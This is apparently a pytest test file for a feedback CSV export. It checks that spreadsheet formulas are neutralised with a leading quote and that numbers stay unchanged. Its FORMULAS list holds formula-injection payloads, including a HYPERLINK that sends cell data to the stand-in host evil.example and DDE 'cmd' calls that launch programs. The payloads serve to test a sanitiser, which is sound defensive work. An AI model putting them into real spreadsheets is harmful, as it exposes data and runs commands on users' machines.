"""Feedback as CSV: a spreadsheet runs nothing of it, and numbers stay numbers (B9)."""

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from quality.export_csv import cell, sheet_head, sheet_row
from quality.export_sql import FEEDBACK_CELLS
from quality.models import Feedback
from quality.review.items import item_of_call, item_of_turn
from quality.review.labelling import record_label
from tenants.models import Membership, Tenant, User
from tenants.scope import tenant_scope
from tests.api.client import Api
from tests.factories import ToolCallFactory, TurnFactory

SHEET = "/api/admin/quality/tool-call-feedback/export.csv"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "+49 30 123456",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "- a list",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000@x",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bx",
    "\u22121+1",
    "--1",
    "-1-",
    "-01",
    "-\u0661",
    "=",
    "-",
]
NUMBERS = ["0", "-1", "1.50", "-0.0", "1E5", "-1e-7", "12345678901234567890123"]
TEXTS = ["", "plain", "a=b", "'quoted'", '{"a": -1}', "a\r\n=1+1", "1,5", "null", "Zürich \U0001f469"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert cell(text) == "'" + text.replace("\x00", "\ufffd")


@pytest.mark.parametrize("text", NUMBERS + TEXTS)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_row_is_read_back_whatever_its_cells_hold() -> None:
    cells = [*FORMULAS, *NUMBERS, *TEXTS, 'a"b', "a,b", "a;b", None]
    (row,) = csv.reader(io.StringIO(sheet_row(cells), newline=""))
    assert row == [cell(one) for one in cells]


def test_the_head_names_the_columns() -> None:
    assert sheet_head(["a", "b"]) == "\ufeffa,b\r\n"


@pytest.fixture
def ada(member: Callable[..., Membership]) -> User:
    return member("admin", user__name="=Ada", user__email="ada@example.com").user


def sheet(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = b"".join(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_feedback_goes_out_as_a_table(tenant: Tenant, api: Callable[..., Api], ada: User) -> None:
    with tenant_scope(tenant):
        call = ToolCallFactory(args="-1.50", result='"=1+1"', error="=cmd|' /C calc'!A0", is_error=True)
        record_label(item=item_of_call(call.pk), reviewer=ada, label="bad_args", note="=1+1\r\nand more")
        turn = TurnFactory(conversation_id="@conversation")
        record_label(item=item_of_turn(turn.pk), reviewer=ada, label="missing_tool")
        first = Feedback.objects.get(call=call)
    response = api("export:read").get(SHEET)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tool-call-feedback.csv"'
    assert response["Cache-Control"] == "no-store, private"
    row, without_call = sheet(response)
    assert list(row) == list(FEEDBACK_CELLS)
    assert row["id"] == str(first.pk)
    assert row["args"] == "-1.50"
    assert row["note"] == "'=1+1\r\nand more"
    assert row["error"] == "'=cmd|' /C calc'!A0"
    assert row["reviewerName"] == "'=Ada"
    assert row["faults"] == " ".join(first.faults)
    assert row["durationMs"] == "340"
    assert row["updatedAt"] == first.updated_at.isoformat(timespec="microseconds").replace("+00:00", "Z")
    assert (without_call["callId"], without_call["conversationId"]) == ("", "'@conversation")


def test_a_table_is_narrowed_as_the_lines_are(tenant: Tenant, api: Callable[..., Api], ada: User) -> None:
    with tenant_scope(tenant):
        for label in ("good_reply", "other"):
            record_label(item=item_of_call(ToolCallFactory().pk), reviewer=ada, label=label)
    client = api("export:read")
    assert [row["label"] for row in sheet(client.get(SHEET, {"label": "other"}))] == ["other"]
    assert len(sheet(client.get(SHEET, {"limit": 1}))) == 1
    assert client.get(SHEET, {"label": "none"}).status_code == 400
    assert api("read").get(SHEET).status_code == 403
